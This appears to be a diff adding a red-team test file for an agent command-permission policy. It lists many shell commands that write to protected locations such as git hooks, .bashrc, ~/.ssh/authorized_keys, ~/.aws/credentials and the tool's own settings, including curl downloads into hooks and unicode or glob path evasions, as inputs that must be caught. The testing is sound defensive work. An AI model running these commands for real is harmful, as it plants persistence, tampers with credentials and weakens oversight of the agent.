@@ -1,0 +1,187 @@
+"""Red team: a command that writes a protected path or a secret location through a writing
+program (`tee .git/hooks/pre-commit`, `dd of=.envrc`, `cp x .vscode/settings.json`,
+`sed -i … .bashrc`, …) is asked about like `> .git/hooks/x`, in every mode, whatever the
+allow rules say, and only ever allowed once; into Reins' own data it is refused. The
+sandbox also stops such writes (protected paths are read-only in it), but the user is told
+before, not surprised after, and without a sandbox this is the only line. Through the real
+shell reader, the real path policy and `decide()`."""
+
+from __future__ import annotations
+
+from collections.abc import Sequence
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from kernel.policy.decide import Decision, Mode, Verdict, decide
+from kernel.policy.facts import call_facts
+from kernel.policy.rules import parse_rule
+from kernel.policy.ruleset import RuleSet
+from tests.policy.worldkit import COMMAND, PolicyWorld
+
+H = ".git/hooks/pre-commit"
+
+
+class _Sandbox:
+    def __init__(self, available: bool) -> None:
+        self.available = available
+
+    def describe(self) -> str:
+        return "bubblewrap" if self.available else "none"
+
+
+@pytest.fixture
+def world(tmp_path: Path) -> PolicyWorld:
+    world = PolicyWorld(tmp_path)
+    (world.workspace / ".git" / "hooks").mkdir(parents=True)
+    (world.workspace / "sub").mkdir()
+    return world
+
+
+def _decide(world: PolicyWorld, command: str, mode: Mode, *, allow: Sequence[str] = (),
+            deny: Sequence[str] = (), sandboxed: bool = True) -> Decision:
+    args: dict[str, Any] = {"command": command}
+    facts = call_facts(COMMAND, args, world.policy, _Sandbox(sandboxed))
+    sets = [RuleSet([parse_rule(t) for t in texts]) for texts in (allow, (), deny)]
+    return decide(COMMAND, args, facts, world.session(mode), *sets)
+
+
+PROTECTED = [
+    # tee
+    f"tee {H}", f"tee -a {H}", f"tee {H} -a", f"tee --append {H}", f"tee --app {H}",
+    f"tee -- {H}", f"tee out.txt {H}", f"tee '{H}'", 'tee ".git"/hooks/pre-commit',
+    "tee ./.git//hooks/pre-commit", "tee sub/../.git/hooks/pre-commit",
+    "tee ../ws/.git/hooks/pre-commit", "tee .GIT/hooks/pre-commit", "tee .git./hooks/x",
+    "tee .g\u200cit/hooks/x", "tee .ＧＩＴ/hooks/x", "tee .vscode/settings.json",
+    "tee .VSCode/tasks.json", "tee ~/.bashrc", "tee --append ~/.zshrc", "tee .envrc",
+    "tee .env", "tee sub/.env.local", "tee .mcp.json", "tee mise.toml", "tee .idea/x.xml",
+    # dd
+    "dd of=.envrc", f"dd if=x of={H}", "dd of=./.vscode/settings.json bs=1", "dd 'of=.envrc'",
+    "dd of=~/.profile",
+    # cp / mv / install / ln / rsync / scp
+    "cp x .vscode/settings.json", "cp -f x .vscode/settings.json", "cp x .bashrc -f",
+    "cp -- x .bashrc", "cp -t .git/hooks pre-commit", "cp --target-directory=.git/hooks x",
+    "cp --target-dir .git/hooks x", "cp -rt.git/hooks x", "cp hooks/pre-commit .git/hooks/",
+    "cp x .git/hooks", "cp evil/.bashrc ~", "cp evil/.envrc .", "cp evil/.envrc sub",
+    "cp evil/.envrc ./", "cp x/.[a-z]* .", "cp .bashrc backup", "cp -a evil/.git .",
+    "cp x .vsc*/settings.json", "cp x .Vscode/", "cp x ./.idea/", "cp -r x .devcontainer",
+    "cp $SRC .git/hooks/", "/bin/cp x .bashrc",
+    "\\cp x .bashrc", "cp x ~/.ssh/authorized_keys", f"mv x {H}", f"mv {H} elsewhere",
+    "mv -f x .idea/workspace.xml", "mv -t .vscode x", f"install -m 755 x {H}",
+    f"install -D -m0755 x {H}", "install -t .git/hooks pre-commit", "install -d .vscode",
+    f"ln -sf /tmp/evil {H}", "ln -s /x/.bashrc", "ln -s /x/.bashrc .",
+    "ln -t .git/hooks -s /tmp/pre-commit", "ln --symbolic --force evil .envrc",
+    "link x .envrc", "rsync -a hooks/ .git/hooks/", "rsync x .bashrc",
+    "rsync --exclude x -a src/ .vscode/", "scp host:x .bashrc",
+    # truncate / touch / mkdir / rm / chmod
+    "truncate -s 0 .envrc", "truncate --size=0 .bashrc", "truncate -s0 .git/config",
+    f"touch {H}", "touch -d yesterday .envrc", "mkdir .vscode", "mkdir -p .git/hooks/d",
+    f"rm {H}", "rm -f .envrc", "unlink .bashrc", "rmdir .vscode", "shred -u .env",
+    f"chmod +x {H}", f"chmod 755 {H}", "chmod -R u+x .git/hooks", f"chmod -x {H}",
+    "chown me .bashrc", "chattr +i .bashrc",
+    # sed -i / perl -i
+    "sed -i 's/a/b/' .bashrc", "sed -i.bak 's/a/b/' .bashrc", "sed -ie 's/a/b/' .bashrc",
+    "sed -Ei 's/a/b/' .vscode/settings.json", "sed --in-place -e 's/a/b/' .git/config",
+    "sed --in-pl -e s/a/b/ .git/config", "sed -i -e s/a/b/ -- .envrc",
+    "sed -n -i 's/x/y/p' ~/.profile", "sed -i s/a/b/ .env", "sed -i s/a/b/ *",
+    "sed -i s/a/b/ .g*/config", "sed -i s/a/b/ .GIT/con*", "sed -i s/x/y/ .vscode/*",
+    "shopt -s dotglob; sed -i s/a/b/ ?bashrc", "perl -pi -e 's/a/b/' .bashrc",
+    "perl -i.bak -pe 's/a/b/' .git/config",
+    # tar / unzip / patch
+    "tar -x -C .git -f a.tar", "tar xf a.tar -C .git/hooks", "tar xzf a.tgz -C.git",
+    "tar --extract --directory=.vscode -f a.tar", "tar -xzf a.tgz --directory .git",
+    f"tar -cf {H} src", "unzip x.zip -d .git/hooks", "patch .bashrc fix.diff",
+    "patch -o .envrc a fix.diff", "patch -d .git -p1 -i x.diff",
+    # downloads and others
+    f"curl -o {H} https://x", "curl --output .envrc https://x", "curl -sSLo .bashrc https://x",
+    "curl -O https://x/dl/.bashrc", "curl -O --output-dir .git/hooks https://x/pre-commit",
+    f"wget -O {H} https://x", "wget -P .git/hooks https://x/pre-commit",
+    "wget https://x/.envrc", "sort -o .bashrc x", "uniq x .envrc",
+    # wrappers, shells, xargs, find -exec
+    f"echo x | sudo tee {H}", f"sudo -u root tee -a {H}", "env -i cp x .bashrc",
+    "env A=1 tee .envrc", "nice -n 5 cp x .bashrc", "timeout 5 tee .bashrc",
+    "command tee .bashrc", "busybox tee .bashrc", "nohup tee .bashrc", f"sh -c 'tee {H}'",
+    f"bash -c \"cp x {H}\"", f"echo {H} | xargs tee", "echo x | xargs -I{} cp {} .git/hooks/",
+    "find . -name '*.sh' -exec cp {} .git/hooks/ \\;", "find . -exec tee {} \\;",
+    "cd .git && tee hooks/pre-commit", "tee $HOME/.bashrc", 'tee "$F"',
+    "true && tee .bashrc", "(tee .bashrc)", "x=$(tee .bashrc)", "tee ~/.gitconfig",
+    "tee .gitmodules", "tee .dir-locals.el", "tee sub/.envrc", "tee sub/deep/.vscode/x",
+    "tee x.code-workspace", "tee .claude/settings.json", "tee ~/.config/autostart/x.desktop",
+    "tee ~/.aws/credentials", "tee ~/.ssh/config", "tee .npmrc", "tee -a .git/info/attributes",
+    "dd of=.git/config conv=notrunc", "cp x .git/config", "ln -s x .git/hooks/post-checkout",
+]
+
+HARMLESS = [
+    "tee out.txt", "tee -a log.txt", "cp a b", "cp -r src dst", "mv a b", "cp -T .bashrc bak",
+    "cat .bashrc > backup", "cp -r src/. dst/", "rsync -a src/ dst",
+    "dd if=/dev/zero of=out.bin count=1", "sed -i s/a/b/ notes.txt", "sed -n p .bashrc",
+    "sed s/x/y/ .git/config", "grep x .bashrc", "cat .git/config", "install -d build",
+    "ln -s target link", "truncate -s 0 log.txt", "touch a.txt", "tar -xf a.tar",
+    "tar -cf out.tar .git", "rsync -a .git/ backup/", "sort -o sorted.txt x",
+    "chmod +x script.sh", "mkdir build", "rm build.log", "sed -i s/a/b/ src/*.py",
+    "cp x/*.py sub/", "tee /dev/null", "dd if=x of=/dev/null", "cp x /dev/null",
+    "echo x | tee -a notes.md", "find . -name '*.o' -exec touch stamp \\;",
+]
+
+OUTSIDE = ["cp x /tmp/y", "tee ~/notes/x", "mv a ../elsewhere", "sed -i s/a/b/ /tmp/f",
+           "curl -o /tmp/page.html https://x", "install -d /tmp/d"]
+
+
+@pytest.mark.parametrize("command", PROTECTED)
+def test_a_write_to_a_protected_path_by_a_program_asks_once(world: PolicyWorld,
+                                                           command: str) -> None:
+    for mode in (Mode.AUTO, Mode.AUTO_EDIT, Mode.ASK):
+        for sandboxed in (True, False):
+            decision = _decide(world, command, mode, allow=("run_command", "write_file"),
+                               sandboxed=sandboxed)
+            assert decision.verdict is Verdict.ASK, (command, mode, decision)
+            assert decision.decided_by in ("always ask", "mode auto", "mode ask",
+                                           "mode auto-edit"), decision
+            assert not decision.can_session and not decision.can_always, decision
+
+
+@pytest.mark.parametrize("command", PROTECTED)
+def test_the_reason_names_the_write(world: PolicyWorld, command: str) -> None:
+    reason = _decide(world, command, Mode.AUTO, allow=("run_command",)).reason
+    assert ("protected path or a secret location" in reason
+            or "cannot be named before it runs" in reason
+            or "destructive" in reason or "network" in reason), reason
+
+
+@pytest.mark.parametrize("command", HARMLESS)
+def test_a_plain_write_in_the_workspace_still_runs_in_auto_mode(world: PolicyWorld,
+                                                                command: str) -> None:
+    decision = _decide(world, command, Mode.AUTO)
+    assert decision.verdict is Verdict.ALLOW, decision
+
+
+@pytest.mark.parametrize("command", OUTSIDE)
+def test_a_program_writing_outside_the_workspace_asks_in_auto_mode(world: PolicyWorld,
+                                                                   command: str) -> None:
+    decision = _decide(world, command, Mode.AUTO, allow=("run_command",))
+    assert decision.verdict is Verdict.ASK, decision
+
+
+@pytest.mark.parametrize("program", ["cp evil.json {}", "tee {}", "dd of={}",
+                                     "sed -i s/a/b/ {}", "ln -sf /tmp/x {}",
+                                     "echo x | sudo tee -a {}"])
+def test_a_program_writing_reins_settings_is_refused(world: PolicyWorld, program: str) -> None:
+    command = program.format(world.paths.settings_file)
+    decision = _decide(world, command, Mode.AUTO, allow=("run_command",))
+    assert decision.verdict is Verdict.DENY and "Reins' own" in decision.reason
+
+
+def test_write_file_rules_apply_to_what_programs_write(world: PolicyWorld) -> None:
+    deny = _decide(world, "cp x secrets/a", Mode.AUTO, deny=("write_file(secrets/**)",))
+    assert deny.verdict is Verdict.DENY and deny.rule == "write_file(secrets/**)"
+    allowed = _decide(world, "cp x build/a", Mode.ASK,
+                      allow=("run_command(cp *)", "write_file(build/**)"))
+    assert allowed.verdict is Verdict.ALLOW
+    other = _decide(world, "cp x other/a", Mode.ASK,
+                    allow=("run_command(cp *)", "write_file(build/**)"))
+    assert other.verdict is Verdict.ASK
+
+
+def test_tables_are_large() -> None:
+    assert len(PROTECTED) >= 150 and len(HARMLESS) >= 30
